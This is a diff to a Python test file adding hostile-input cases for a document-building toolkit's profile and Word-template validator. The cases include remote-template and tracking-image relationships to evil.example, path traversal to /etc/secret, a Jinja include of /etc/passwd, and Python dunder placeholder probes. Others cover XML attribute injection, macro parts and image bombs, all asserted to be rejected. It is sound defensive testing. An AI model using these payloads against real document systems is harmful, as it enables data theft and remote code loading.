@@ -8,11 +8,14 @@ from __future__ import annotations
 
 import io
 import textwrap
+import zipfile
 from dataclasses import dataclass, field
 
 import pytest
 
+from toolkit.output import LOCK_NAME
 from toolkit.paths import CORE_DIR
+from toolkit.render.ooxml import DEFAULT_TEMPLATE
 
 from .conftest import PROFILES, ROOT, SECTORS
 
@@ -45,6 +48,13 @@ SVG_REMOTE = '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.
 PNG = (ROOT / "profiles" / "assets" / "riverside-borough-council-logo.png").read_bytes()
 
 
+def outputs(folder) -> list[str]:
+    """The files in an output folder, staged (.partial) files included, without the lock and the build cache."""
+    from toolkit.render.cache import CACHE_FOLDER
+
+    return sorted(p.name for p in folder.iterdir() if p.name not in (LOCK_NAME, CACHE_FOLDER))
+
+
 def blank_docx() -> bytes:
     from docx import Document
 
@@ -53,6 +63,65 @@ def blank_docx() -> bytes:
     document.add_paragraph("Our house style, without the placeholders")
     document.save(out)
     return out.getvalue()
+
+
+def house_docx(text: str | None = None, parts: dict[str, bytes] | None = None) -> bytes:
+    """The default Word template, with a paragraph of `text` added and zip entries (`word/x.bin`) added or replaced."""
+    import zipfile
+
+    from docx import Document
+
+    from toolkit.render.ooxml import DEFAULT_TEMPLATE
+
+    source = io.BytesIO()
+    document = Document(str(DEFAULT_TEMPLATE))
+    if text:
+        document.add_paragraph(text)
+    document.save(source)
+    replaced = dict(parts or {})
+    out = io.BytesIO()
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            new.writestr(name, replaced.pop(name, None) or old.read(name))
+        for name, data in replaced.items():
+            new.writestr(name, data)
+    return out.getvalue()
+
+
+RELS = "word/_rels/document.xml.rels"
+
+
+def with_relationship(kind: str, target: str) -> bytes:
+    """The default template's document relationships plus one to an outside address."""
+    import zipfile
+
+    from toolkit.render.ooxml import DEFAULT_TEMPLATE
+
+    rels = zipfile.ZipFile(DEFAULT_TEMPLATE).read("word/_rels/document.xml.rels").decode()
+    extra = (
+        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}" TargetMode="External"/>'
+    )
+    return rels.replace("</Relationships>", extra + "</Relationships>").encode()
+
+
+def png_header(width: int, height: int, padding: int = 0) -> bytes:
+    """A PNG's signature and image header claiming a size (and optional filler bytes): what a size check reads."""
+    import struct
+    import zlib
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    chunk = struct.pack(">I", len(header)) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
+    return PNG[:8] + chunk + b"\0" * padding
+
+
+def table(columns: int) -> str:
+    cells = "|" + "|".join(f"c{i}" for i in range(columns)) + "|"
+    return cells + "\\n|" + "|".join("-" * columns) + "|\\n" + cells
+
+
+def house(id: str, docx: bytes, *expect: str) -> Case:
+    return case(id, GOOD + "branding:\n  word_template: house.docx\n", *expect, house__docx=docx)
 
 
 def logo(png: str = "logo.png", extra: str = "") -> str:
@@ -282,6 +351,138 @@ CASES = [
         house__docx=blank_docx(),
     ),
     case("unknown-font", GOOD + "branding:\n  font: Comic Sans\n", "not bundled", line=4),
+    # Hostile input, second round: nothing read from outside, nothing internal leaked, nothing dangerous written
+    case("extends-a-path", "extends: ../../outside/secret\nname: X\n", "never a path", line=1),
+    case("extends-an-absolute-path", "extends: /etc/secret\nname: X\n", "never a path", line=1),
+    case("extends-dot-dot", "extends: ..\nname: X\n", "never a path", line=1),
+    case("extends-windows-path", "extends: '..\\\\outside\\\\secret'\nname: X\n", "never a path", line=1),
+    *[
+        case(
+            f"placeholder-{name.strip('{}').replace('.', '-').replace('_', '')}",
+            GOOD + f"clauses:\n  - replace: principles.credible\n    text: 'Ask {name}'\n",
+            f"`{name}` is not a known placeholder",
+            suggestion,
+            line=5,
+        )
+        for name, suggestion in (
+            ("{org.name.__class__}", "did you mean `{org.name}`?"),
+            ("{org.name._vocabulary}", "did you mean `{org.name}`?"),
+            ("{org.__init__.__globals__}", "see the README's list of placeholders"),
+            ("{term.staff.__dict__}", "did you mean `{term.staff"),
+        )
+    ],
+    house(
+        "word-template-attached-from-the-web",
+        house_docx(parts={RELS: with_relationship("attachedTemplate", "http://evil.example/t.dotm")}),
+        "makes Word fetch attachedTemplate from http://evil.example/t.dotm",
+    ),
+    house(
+        "word-template-remote-image",
+        house_docx(parts={RELS: with_relationship("image", "https://evil.example/track.png")}),
+        "makes Word fetch image",
+    ),
+    house(
+        "word-template-ole-link",
+        house_docx(parts={RELS: with_relationship("oleObject", "file://server/share/x.xlsx")}),
+        "makes Word fetch oleObject",
+    ),
+    house(
+        "word-template-remote-image-in-the-header",
+        house_docx(
+            parts={
+                "word/_rels/header1.xml.rels": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                b'image" Target="https://evil.example/pixel.png" TargetMode="External"/></Relationships>'
+            }
+        ),
+        "word/_rels/header1.xml.rels makes Word fetch image from https://evil.example/pixel.png",
+    ),
+    house("word-template-macros", house_docx(parts={"word/vbaProject.bin": b"macro"}), "contains macros"),
+    house(
+        "word-template-docm-renamed",
+        house_docx(
+            parts={
+                "[Content_Types].xml": zipfile.ZipFile(DEFAULT_TEMPLATE)
+                .read("[Content_Types].xml")
+                .replace(
+                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
+                )
+            }
+        ),
+        "macro-enabled document (.docm)",
+    ),
+    house(
+        "word-template-too-many-parts",
+        house_docx(parts={f"word/media/p{i}.bin": b"x" for i in range(1001)}),
+        "parts; the limit is 1,000",
+    ),
+    house(
+        "word-template-includes-a-file",
+        house_docx("{% include '/etc/passwd' %}"),
+        "may not include, import or extend another file (`/etc/passwd`)",
+    ),
+    house("word-template-huge-loop", house_docx("{% for i in range(10**9) %}x{% endfor %}"), "range()", "1,000"),
+    house("word-template-huge-power", house_docx("{{ 9**99999999 }}"), "at most the power 30"),
+    case(
+        "font-name-injects-xml",
+        GOOD + "branding:\n  font: 'Inj\" w:altName=\"pwned'\n",
+        "branding.font.name",
+        "letters, digits, spaces",
+        line=4,
+    ),
+    case("font-name-ampersand", GOOD + "branding:\n  font: Brand & Co\n", "letters, digits, spaces", line=4),
+    case("font-name-pdf-syntax", GOOD + "branding:\n  font: 'A}<;/B'\n", "letters, digits, spaces", line=4),
+    case(
+        "logo-only-the-signature",
+        logo(),
+        "branding.logo.png",
+        "not a complete PNG image",
+        line=5,
+        logo__png=PNG[:8],
+    ),
+    case(
+        "logo-image-bomb", logo(), "30000×30000 pixels", "at most 4000×4000", line=5, logo__png=png_header(30000, 30000)
+    ),
+    case(
+        "svg-too-large",
+        logo(extra="    svg: logo.svg\n"),
+        "a logo may be at most 5,242,880",
+        logo__png=PNG,
+        logo__svg=SVG_SCRIPT.replace("<script>", " " * (5 * 1024 * 1024) + "<script>"),
+    ),
+    case("logo-very-tall", logo(), "100×50000 pixels", line=5, logo__png=png_header(100, 50000)),
+    case("logo-zero-pixels", logo(), "0×10 pixels", line=5, logo__png=png_header(0, 10)),
+    case(
+        "logo-too-large-a-file",
+        logo(),
+        "a logo may be at most 5,242,880",
+        line=5,
+        logo__png=png_header(100, 100, padding=5 * 1024 * 1024),
+    ),
+    case("name-too-long", "extends: local-council\nname: " + "N" * 256 + "\n", "name", "the limit is 255", line=2),
+    case("short-name-too-long", GOOD + "short_name: " + "S" * 300 + "\n", "short_name", "the limit is 255", line=3),
+    case(
+        "version-too-long",
+        GOOD + "document:\n  version: '" + "1" * 256 + "'\n",
+        "document.version",
+        "the limit is 255",
+        line=4,
+    ),
+    case(
+        "table-with-101-columns",
+        GOOD + f'clauses:\n  - replace: principles.credible\n    text: "{table(101)}"\n',
+        "a table has 101 columns; at most 20",
+        line=5,
+    ),
+    case(
+        "remove-a-section",
+        GOOD + "clauses:\n  - remove: confidentiality\n    reason: not for us\n",
+        "`confidentiality` is a section",
+        "exclude: confidentiality",
+        line=4,
+    ),
 ]
 
 
@@ -321,7 +522,7 @@ def test_bad_profile_gets_a_clear_message_and_nothing_is_lost(bad: Case, tmp_pat
 
 
 def test_the_catalogue_is_large_enough():
-    assert len(CASES) >= 40
+    assert len(CASES) >= 100
 
 
 def test_a_typo_in_a_core_template_names_the_template_and_line(tmp_path, monkeypatch, cli):
@@ -394,7 +595,7 @@ def test_a_full_disk_leaves_previous_outputs_and_no_partial_files(tmp_path, monk
     code, _, err = cli(*["build", str(SECTORS / "nhs-trust.yaml"), "--format", "html", "--out", str(out_dir)])
     assert code == 1 and "the disk is full" in err
     assert previous.read_bytes() == PREVIOUS
-    assert [p.name for p in out_dir.iterdir() if not p.name.startswith(".")] == ["nhs-trust.html"]
+    assert outputs(out_dir) == ["nhs-trust.html"]
 
 
 def test_a_renderer_failing_midway_publishes_nothing(tmp_path, monkeypatch, cli):
@@ -417,7 +618,7 @@ def test_a_renderer_failing_midway_publishes_nothing(tmp_path, monkeypatch, cli)
     )
     assert code == 1 and "simulated crash" in err and "Traceback" not in err
     assert previous.read_bytes() == PREVIOUS
-    assert [p.name for p in out_dir.iterdir() if not p.name.startswith(".")] == ["nhs-trust.html"]
+    assert outputs(out_dir) == ["nhs-trust.html"]
 
 
 def test_profile_text_is_never_evaluated(tmp_path, monkeypatch, cli):
